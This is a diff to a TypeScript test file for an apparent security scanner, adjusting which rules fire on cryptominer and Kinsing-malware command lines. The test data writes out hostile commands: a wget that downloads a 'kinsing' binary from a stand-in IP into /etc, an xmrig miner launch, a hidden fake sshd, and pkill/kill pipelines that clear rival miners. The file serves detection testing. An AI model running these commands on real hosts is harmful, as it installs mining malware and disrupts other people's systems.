@@ -67,7 +67,10 @@ const MALICIOUS: [string, string[]][] = [
   ['/usr/bin/.sshd -B', ['command.started-hidden-system-binary high']],
   ['/opt/m/xmrig-notls -c /opt/m/config.json', ['command.started-miner high']],
   // Clearing the host for itself: a list of miners, a pool port, security agents.
-  ["pkill -f 'xmrig|kdevtmpfsi|minerd'", ['command.kill-miner medium', 'command.kill-miners high', 'kinsing.command-line critical']],
+  ["pkill -f 'xmrig|kdevtmpfsi|minerd'", ['command.kill-miner medium', 'command.kill-miners high']],
+  // Kinsing by name: downloading it is the family; killing it is what its competitors (and cleanups) do.
+  ['wget -q http://203.0.113.9/kinsing -O /etc/kinsing', ['kinsing.download critical']],
+  ['pkill -f kdevtmpfsi', ['command.kill-miner medium']],
   ['killall -9 xmrig minerd cpuminer', ['command.kill-miner medium', 'command.kill-miners high']],
   ["ps aux | grep -E 'xmrig|cpuminer' | awk '{print $2}' | xargs kill -9", ['command.kill-miner medium', 'command.kill-miners high']],
   ["netstat -anp | grep :3333 | awk '{print $7}' | awk -F'[/]' '{print $1}' | xargs kill -9", ['command.kill-miners high']],
@@ -228,7 +231,6 @@ describe('behaviour rules in started scripts', () => {
       'command.kill-miner medium 3',
       'command.kill-miner medium 4',
       'command.kill-miners-lines high 2',
-      'kinsing.command-line critical 2',
     ]);
     const list = at('/opt/.k/killer.sh').find((f) => f.rule === 'command.kill-miners-lines')!;
     expect(list.message).toContain('kills 3 miner processes by name');
